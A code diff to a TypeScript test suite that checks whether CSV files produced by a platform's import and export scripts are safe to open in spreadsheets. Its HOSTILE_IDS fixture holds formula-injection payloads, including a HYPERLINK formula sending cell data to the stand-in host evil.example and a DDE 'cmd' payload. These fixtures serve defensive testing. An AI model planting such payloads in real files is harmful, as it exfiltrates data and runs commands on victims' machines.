@@ -1,4 +1,4 @@
-import { spawn } from 'node:child_process';
+
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -6,6 +6,7 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { toCsv } from '#analytics/export.ts';
 import { createTestApp, ok, type TestApp } from '#tests/support/app.ts';
+import { runScript } from '#tests/support/cli.ts';
 
 /**
  * Files that open in spreadsheets (issue 9): every CSV the platform writes, read back with a real
@@ -29,20 +30,6 @@ afterAll(async () => {
   await app.close();
 });
 
-function run(script: string, args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
-  return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, ['--import', 'tsx', script, ...args], {
-      env: { ...process.env, INIT_CWD: directory, FORCE_COLOR: '0' },
-      stdio: ['ignore', 'pipe', 'pipe'],
-    });
-    let stdout = '';
-    let stderr = '';
-    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
-    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
-    child.once('error', reject);
-    child.once('close', (code) => resolve({ code, stdout, stderr }));
-  });
-}
 
 const HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+86-10-12345678', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '=西城街道'];
 
@@ -56,7 +43,7 @@ describe('the rejected rows of npm run import', () => {
     writeFileSync(file, `${[header, ...rows].join('\n')}\n`);
 
     // Act
-    const result = await run('scripts/import.ts', [file, '--community', communityId]);
+    const result = await runScript('scripts/import.ts', [file, '--community', communityId], { cwd: directory });
 
     // Assess: read back with a real parser
     expect(result.code, result.stderr).toBe(0);
@@ -76,7 +63,7 @@ describe('bad ids in an import file', () => {
     const file = join(directory, 'long-id.csv');
     const header = 'externalId,communityId,occurredAt,cause,intent,place,activity,severity,deaths,injured';
     writeFileSync(file, `${header}\nL-1,${'x'.repeat(3_000)},2024-05-01 14:30,FALL,UNINTENTIONAL,HOME,HOUSEWORK,MINOR,0,1\n`);
-    const result = await run('scripts/import.ts', [file]);
+    const result = await runScript('scripts/import.ts', [file], { cwd: directory });
     expect(result.code, result.stderr.slice(-2000)).toBe(0);
     const report = parse(readFileSync(join(directory, 'long-id.rejected.csv')), { bom: true, columns: true }) as Record<string, string>[];
     expect(report.map((line) => [line.externalId, line.field, line.message])).toEqual([['L-1', 'communityId', 'no such community']]);
@@ -105,7 +92,7 @@ describe('the analytics export (npm run export, aggregateExport)', () => {
       admin,
     );
     expect(ok(imported).importIncidents.outcome).toBe('COMPLETED');
-    const result = await run('scripts/export.ts', ['--region', '371702002', '--year', '2009', '--out', join(directory, 'export.csv')]);
+    const result = await runScript('scripts/export.ts', ['--region', '371702002', '--year', '2009', '--out', join(directory, 'export.csv')], { cwd: directory });
     expect(result.code, result.stderr).toBe(0);
     const text = readFileSync(join(directory, 'export.csv'), 'utf8');
     const rows = parse(text, { bom: true, relax_column_count: true }) as string[][];
